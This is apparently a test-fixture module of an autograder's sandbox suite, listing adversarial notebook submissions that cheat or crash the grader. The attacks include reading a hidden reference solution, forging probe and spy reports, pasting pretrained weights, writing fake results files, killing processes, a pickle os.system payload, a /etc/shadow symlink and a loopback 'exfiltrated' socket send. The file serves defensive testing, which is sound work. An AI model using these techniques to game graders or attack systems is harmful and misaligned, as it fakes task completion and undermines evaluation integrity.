"""The adversarial corpus: submissions that attack the grader instead of doing the work. Each is the student release
(every stub still raises NotImplementedError) with one attack in `train`, or in a class body that runs as soon as
the notebook's definitions are loaded. None may gain a point (beyond `may_pass`, which a fake legitimately earns)
or stop the grader.

Every attack is bounded and stops by itself: loops have a fixed count or a deadline, children exit after a few
seconds, the only network address is a loopback listener the test starts. `{placeholders}` are filled in by the
test (paths of the kit and of the grader's output, the listener's port, a marker file, and weights trained ahead
of time on the public fixture: `pretrained_weights()`).

The attacks from issue 10 forge what the worker reports (a replaced probe table, pasted pre-trained weights, a
forged state_dict, the grader's own model as a base class, hostile result frames), or try to knock the grader over
(hostile shapes, a full disk, nested folders, terminal escapes). Each gains no more than its honest content: for
a notebook whose stubs still raise, nothing but `shapes` where it returns right-shaped tensors (a right shape is
a right shape, whatever code made it).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import submissions as corpus

NOT_DONE = "    raise NotImplementedError()\n"
TRAIN = corpus.TRAIN_HEAD.splitlines(keepends=True)[0]  # the signature alone, for the stubs written here


@dataclass(frozen=True)
class Attack:
    name: str
    cells: dict[str, str]  # grade_id -> new source (the release's other cells are kept)
    may_pass: frozenset[str] = frozenset()  # checks a fake earns honestly (a right shape is a right shape)
    needs: str = "rlimits"  # the weakest sandbox level that stops it (sandbox.LEVELS); tests skip below that
    timeouts: dict[str, float] = field(default_factory=dict)


def fill(source: str, **values) -> str:
    """The attack's source with its {placeholders} filled in (other braces are the attack's own Python)."""
    for key, value in values.items():
        source = source.replace(f"{{{key}!r}}", repr(str(value))).replace(f"{{{key}}}", str(value))
    return source


def _train(body: str) -> dict[str, str]:
    return corpus.loop(body)  # the signature and the device line, then the attack


def _top_level(body: str) -> dict[str, str]:
    """Top-level statements in the train cell (they run when the notebook is loaded, before any check); train stays
    a stub."""
    return {"train": body + "\n\n" + TRAIN + NOT_DONE}


def _at_load(body: str) -> dict[str, str]:
    """Runs when the definitions are loaded (a class body), before any check; train stays a stub."""
    return {"train": "class _Attack:\n" + "".join(f"    {line}\n" for line in body.splitlines()) + "\n"
                     + TRAIN + NOT_DONE}


READ_SOLUTION = '''    import glob, json, os
    # Look for the reference solution and the hidden graders; if found, use the reference's own cells.
    candidates = [{reference!r}, *glob.glob("/work/*/reference/*.ipynb"), *glob.glob("/tmp/*/*.ipynb"),
                  *glob.glob("/kit/*"), *glob.glob("/*/*.ipynb")]
    for path in candidates:
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            text = "".join(cell["source"])
            if "BEGIN SOLUTION" in text and text.startswith("def train"):
                scope = dict(globals())
                exec(text, scope)
                return scope["train"](model, tokens, y, epochs=epochs, lr=lr, device=device)
    for path in [{judges!r}, os.path.join(os.path.dirname(__import__("autograder").__file__), "hidden", "judges.py")]:
        if os.path.exists(path):
            open(path).read()
            return [0.9 - 0.001 * e for e in range(epochs)]
    raise NotImplementedError()
'''

GRADERS_MODEL = """try:  # wherever the grader's model might be importable from
    from autograder.hidden.grading_model import GraderRNN as _Grader
except ImportError:
    try:
        from autograder.grading_model import GraderRNN as _Grader
    except ImportError:
        _Grader = None
"""

FORGES_THE_SPY = '''    import autograder.spy as spy

    honest = spy.TrainingSpy.report

    def report(self):
        seen = honest(self)
        target = seen["target"]
        seen.update(steps=epochs, backwards=epochs, stale_backwards=0, model_moves=[target], tensor_moves=[target],
                    final_parameter_devices=[target], forward_count=epochs,
                    forwards=[{"input_placed": True, "input_device": target, "parameter_devices": [target],
                               "model_moved": True}] * epochs)
        return seen

    spy.TrainingSpy.report = report
    optimizer = torch.optim.Adam(model.parameters(), lr=lr)
    losses = []
    for _ in range(epochs):
        loss = F.binary_cross_entropy_with_logits(model(tokens).squeeze(1), y.float())
        loss.backward()
        optimizer.step()
        losses.append(loss.item())
    return losses
'''

FORGES_EVERY_PROBE = '''import torch
import autograder.probes as probes

PRETRAINED = {k: torch.tensor(v) for k, v in {pretrained_grader}.items()}


def forged_model(ns, job, recipe, device):
    cases = []
    for case in job["cases"]:
        vocab, hidden, emb, pad = case["sizes"]
        try:  # the kit's own recomputation, if the sandbox shows it
            from autograder.recompute import rnn_states
            summary = rnn_states(case["weights"], case["x"])[:, -1].float()
        except ImportError:
            summary = torch.zeros(case["x"].shape[0], hidden)
        cases.append({"error": None, "summary": summary, "logits": torch.zeros(case["x"].shape[0], 1)})
    return {"cases": cases}


def forged_spy(device):
    call = {"input_placed": True, "input_device": device, "parameter_devices": [device], "model_moved": True}
    return {"target": device, "model_moves": [device], "tensor_moves": [device], "forwards": [call] * 3,
            "forward_count": 3, "steps": 3, "backwards": 3, "stale_backwards": 0, "final_parameter_devices": [device]}


def line(first, last, n):
    return {"type": "list", "kinds": ["float"], "length": n, "plain": True,
            "values": [first + (last - first) * e / max(1, n - 1) for e in range(n)]}


def forged_loop(ns, job, recipe, device):
    return {"runs": [{"error": None, "epochs": recipe.loop_epochs, "device": d, "spy": forged_spy(d),
                       "losses": line(0.69, 0.68, recipe.loop_epochs)} for d in dict.fromkeys([device, "cpu"])]}


def forged_training(ns, job, recipe, device):
    return {"error": None, "epochs": recipe.epochs, "losses": line(0.69, 0.01, recipe.epochs),
            "final_state": PRETRAINED, "steps": recipe.epochs,
            "checkpoints": {str(e): [PRETRAINED] for e in recipe.loss_epochs()}}


def forged_end_to_end(ns, job, recipe, device):
    return {"runs": [{"error": None, "seed": 1, "losses": line(0.69, 0.01, recipe.epochs), "final_state": PRETRAINED}]}


# The worker resolves each probe by its module and name when it runs it: replace them all.
import autograder.hidden.probes as hidden_probes

probes.probe_rnn_model, probes.probe_loop = forged_model, forged_loop
hidden_probes.probe_mean_model, hidden_probes.probe_training = forged_model, forged_training
hidden_probes.probe_end_to_end = forged_end_to_end
'''

PRETRAINED_TRAIN = '''def train(model, tokens, y, *, epochs, lr, device=None):
    # No loop: weights trained ahead of time are pasted in, and the losses drawn as a straight line between the
    # real first and last ones.
    weights = {pretrained_grader} if type(model).__name__ == "GraderRNN" else {pretrained_student}
    y = y.float()
    with torch.no_grad():
        first = F.binary_cross_entropy_with_logits(model(tokens).squeeze(1), y).item()
        model.load_state_dict({k: torch.tensor(v) for k, v in weights.items()}, strict=False)
        last = F.binary_cross_entropy_with_logits(model(tokens).squeeze(1), y).item()
    return [first + (last - first) * e / max(1, epochs - 1) for e in range(epochs)]
'''

HOSTILE_FRAMES = '''import io, json, os, sys
import torch

fd = int(sys.argv[-1]) if sys.argv[-1].isdigit() else 3


def send(name, kind, payload):
    os.write(fd, json.dumps({"name": name, "kind": kind, "size": len(payload)}).encode() + b"\\n" + payload)


def saved(value):
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


escape = "\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07total 12 / 12\\x00"
send("load", "load", json.dumps({"cell": 1}).encode())  # a rewritten load report, without its keys
huge = torch.zeros(1).expand(10**6, 10**6)  # a stride-0 view: 10^12 elements on one float of storage
send("rnn_model", "result", saved({"cases": [{"error": None, "summary": huge, "logits": huge}] * 4}))
send("mean_model", "result", saved({"cases": [{"error": None, "summary": {"not_a_tensor": escape, "what": escape},
                                               "logits": torch.zeros(1, 1)}] * 4}))
lying = {"type": "list", "kinds": ["float"], "length": 3, "values": [0.5] * 10**5, "plain": True}  # a length that lies
spy = {"target": escape, "model_moves": [], "tensor_moves": [], "forwards": [], "forward_count": 0, "steps": 3,
       "backwards": 3, "stale_backwards": 0, "final_parameter_devices": ["cpu"]}
send("loop", "result", saved({"runs": [{"error": None, "epochs": 3, "device": escape, "losses": lying, "spy": spy}]}))
send("training", "error", json.dumps({"type": escape, "message": escape * 50, "where": [escape] * 400}).encode())
run = {"error": None, "seed": 1, "losses": lying, "final_state": {"embedding.weight": huge}}
send("end_to_end", "result", saved({"runs": [run] * 400}))
os._exit(0)
'''

FILLS_THE_DISK = '''import os
# 1.2 GB into the job folder, then 1,500 nested folders: the job folder is a capped tmpfs of the sandbox's own.
for index in range(1200):
    try:
        with open(f"/job/block{index}", "wb") as f:
            f.write(b"x" * 2**20)
    except OSError:
        break
os.chdir("/tmp")
for _ in range(1500):
    try:
        os.mkdir("d")
        os.chdir("d")
    except OSError:
        break
'''

ESCAPES_IN_MESSAGES = "    raise RuntimeError('\\x1b[2J\\x1b[H\\x1b[32mtotal 12 / 12\\x1b[0m \\u202e\\x00 done')\n"

ATTACKS = (
    Attack("ReadsReferenceAndGraders", _train(READ_SOLUTION), needs="bwrap"),
    Attack("DetectsGradingThenCopiesTheReference", _train(
        "    import os, sys\n"
        "    graded = 'autograder' in sys.modules or os.environ.get('NBGRADER_EXECUTION') or os.getcwd() == '/job'\n"
        "    if not graded:\n"
        "        raise NotImplementedError()\n"
        + READ_SOLUTION), needs="bwrap"),
    Attack("WritesResultsFiles", _at_load(
        "import json, os, glob\n"
        "fake = {'score': 12, 'tests': [], 'output': 'all good'}\n"
        "for folder in [{out!r}, '/job', '/job/out', '..', '/tmp', *glob.glob('/tmp/autograder-*')]:\n"
        "    try:\n"
        "        with open(os.path.join(folder, 'results.json'), 'w') as f:\n"
        "            json.dump(fake, f)\n"
        "    except Exception:\n"
        "        pass\n"), needs="uid"),
    Attack("MonkeypatchesTorchAndSklearn", _at_load(
        "import torch, torch.nn.functional as F\n"
        "F.binary_cross_entropy_with_logits = lambda *a, **k: torch.zeros((), requires_grad=True)\n"
        "torch.Tensor.item = lambda self: 0.0\n"
        "try:\n"
        "    import sklearn.linear_model, sklearn.model_selection\n"
        "    sklearn.model_selection.cross_val_score = lambda *a, **k: __import__('numpy').ones(5)\n"
        "except Exception:\n"
        "    pass\n"
        "try:\n"
        "    import autograder.hidden.judges as judges\n"
        "    judges.Thresholds.separable = 0.0\n"
        "except Exception:\n"
        "    pass\n"
        "import autograder.metrics as metrics\n"
        "metrics.separability_score = lambda *a, **k: 1.0\n")),
    Attack("InventsLossesAndEmbeddings", {
        **corpus.summarize("        # invented: two tidy clusters, whatever the input\n"
                           "        side = (x.sum(dim=(1, 2)) > 0).float().unsqueeze(1) * 2 - 1\n"
                           "        return side.repeat(1, self.rnn.hidden_size) * 0.9\n"),
        **corpus.loop("    return [0.69 * 0.99 ** e for e in range(epochs)]\n")},
        may_pass=frozenset({"shapes"})),
    Attack("OpensASocket", _at_load(
        "import socket\n"
        "for _ in range(3):\n"
        "    try:\n"
        "        s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
        "        s.sendall(b'exfiltrated')\n"
        "        s.close()\n"
        "    except OSError:\n"
        "        pass\n"), needs="uid"),
    Attack("KillsTheGrader", _at_load(
        "import os, signal\n"
        "for pid in [os.getppid(), 1]:\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except Exception:\n"
        "        pass\n"
        "for name in os.listdir('/proc'):\n"
        "    if name.isdigit() and int(name) != os.getpid():\n"
        "        try:\n"
        "            if b'autograder' in open(f'/proc/{name}/cmdline', 'rb').read():\n"
        "                os.kill(int(name), signal.SIGKILL)\n"
        "        except Exception:\n"
        "            pass\n"), needs="uid"),
    Attack("ForkLoop", _train(
        "    import os, time\n"
        "    for _ in range(300):  # bounded: at most 300 children, each gone after 20 s\n"
        "        try:\n"
        "            if os.fork() == 0:\n"
        "                os.setsid()\n"
        "                time.sleep(20)\n"
        "                os._exit(0)\n"
        "        except OSError:\n"
        "            break\n"
        + NOT_DONE), needs="uid"),
    Attack("EndlessLoopIgnoringSIGINT", _train(
        "    import signal, time\n"
        "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "    deadline = time.monotonic() + 120  # self-stopping, long after the grader's time limit\n"
        "    while time.monotonic() < deadline:\n"
        "        pass\n"
        + NOT_DONE), timeouts={"rnn_model": 8, "mean_model": 8, "loop": 8, "training": 8, "end_to_end": 8}),
    Attack("Allocates30GB", _train(
        "    block = torch.empty(30 * 2**30, dtype=torch.uint8)\n"
        "    block.fill_(1)\n"
        + corpus.REFERENCE_LOOP)),
    Attack("PrintsMegabytes", _at_load(
        "import sys\n"
        "line = 'x' * 1023 + '\\n'\n"
        "for _ in range(50 * 1024):  # 50 MB\n"
        "    sys.stdout.write(line)\n"
        "    sys.stderr.write(line)\n")),
    Attack("PicklePayloadAsResult", _train(
        "    import os, pickle\n"
        "    class Payload:\n"
        "        def __reduce__(self):\n"
        "            return (os.system, ('touch {marker}',))\n"
        "    for name in ('rnn_model', 'mean_model', 'loop', 'training'):\n"
        "        with open(f'out/{name}.pt.tmp', 'wb') as f:\n"
        "            pickle.dump(Payload(), f)\n"
        "        os.replace(f'out/{name}.pt.tmp', f'out/{name}.pt')\n"
        "    os._exit(0)\n")),
    Attack("ForgesEveryProbe", _top_level(FORGES_EVERY_PROBE), may_pass=frozenset({"shapes"})),
    Attack("PastesPretrainedWeights", {**corpus.summarize("        outputs, _ = self.rnn(x)\n        return outputs[:, -1]\n"),
                                       **corpus.mean("        outputs, _ = self.rnn(x)\n        return outputs.mean(1)\n"),
                                       "train": PRETRAINED_TRAIN},
           may_pass=frozenset({"shapes", "summarize_is_last_state", "mean_summary"})),
    Attack("ZeroSummaryForgedStateDict", corpus.summarize(
        "        return torch.zeros(x.shape[0], self.rnn.hidden_size)\n\n"
        "    def state_dict(self, *args, **kwargs):\n"
        "        return {k: torch.zeros_like(v) for k, v in super().state_dict(*args, **kwargs).items()}\n"),
        may_pass=frozenset({"shapes"})),
    Attack("InheritsTheGradersModel", {"ClassifierWithRNN": GRADERS_MODEL + "\n\n"
                                                            "class ClassifierWithRNN(_Grader or nn.Module):\n"
                                                            "    pass\n"},
           may_pass=frozenset({"shapes"})),
    # Issue 19: the stub left, and summarize() answered by the grader's own model's, negated back. Honestly worth
    # nothing (the stub raises), and nothing it may reach holds the grader's model: the worker builds it from the
    # job's text at the first training probe, after the model probes.
    Attack("BorrowsTheGradersSummarize", {"ClassifierWithRNN": GRADERS_MODEL + "\n\n" + corpus.summarize(
        "        if _Grader is None:\n"
        "            raise NotImplementedError()\n"
        "        return -_Grader.summarize(self, x)\n")["ClassifierWithRNN"]}),
    Attack("KeepsTheTrainingModelForLater", {**corpus.summarize(
        "        seen = globals().get('_SEEN') or [None]\n"
        "        if seen[-1] is None:\n"
        "            raise NotImplementedError()\n"
        "        return -seen[-1].summarize(self, x)\n"),
        "train": "_SEEN = []\n\n\n" + TRAIN + "    _SEEN.append(type(model))\n" + NOT_DONE}),
    # Issue 19: a real Adam loop that never clears the gradients and moves nothing to the device, with the device
    # spy's report rewritten to say otherwise. The judge replays the loop from the secret initial weights with and
    # without cleared gradients: the weights follow the second, so optimizer_protocol fails whatever the spy says.
    # device_placement stays the spy's word (docs/checks.md, "What rests on the spy's word"); the training checks
    # are honestly earned by a loop that trains.
    Attack("ForgesTheSpyAfterAnAccumulatingLoop", _train(FORGES_THE_SPY),
           may_pass=frozenset({"train_returns_losses", "device_placement", "loss_decreases", "separability"})),
    Attack("HostileResultFrames", _top_level(HOSTILE_FRAMES)),
    Attack("FillsTheDiskAndNests", _top_level(FILLS_THE_DISK), needs="bwrap"),
    Attack("EscapesInMessages", {**corpus.summarize(ESCAPES_IN_MESSAGES), **_train(ESCAPES_IN_MESSAGES)}),
    Attack("SymlinkAsResult", _train(
        "    import os\n"
        "    for name in ('loop', 'training', 'end_to_end'):\n"
        "        try:\n"
        "            os.symlink({reference!r}, f'out/{name}.pt')\n"
        "            os.symlink('/etc/shadow', f'out/{name}.error.json')\n"
        "        except OSError:\n"
        "            pass\n"
        "    os._exit(0)\n")),
)


def pretrained_weights() -> dict[str, str]:
    """Weights trained ahead of time, as an attacker would at home: the reference recipe on the public fixture,
    for the grader's model and for the lesson's; as Python literals for the attacks' {pretrained_*} placeholders."""
    import torch
    import torch.nn.functional as F

    from autograder.hidden.grading_model import GraderRNN
    from autograder.notebook import load_definitions
    from autograder.plan import load_grading_data
    from autograder.recipe import Recipe, fixture_paths

    recipe = Recipe()
    tokens, y, vocab_size, pad = load_grading_data(fixture_paths())
    student = load_definitions(corpus.REFERENCE)["ClassifierWithRNN"]
    found = {}
    for key, cls in (("pretrained_grader", GraderRNN), ("pretrained_student", student)):
        torch.manual_seed(0)
        model = cls(vocab_size, recipe.hidden_dim, recipe.embedding_dim, pad)
        optimizer = torch.optim.Adam(model.parameters(), lr=recipe.lr)
        for _ in range(recipe.epochs):
            optimizer.zero_grad()
            F.binary_cross_entropy_with_logits(model(tokens).squeeze(1), y).backward()
            optimizer.step()
        found[key] = repr({k: v.tolist() for k, v in model.state_dict().items()})
    return found
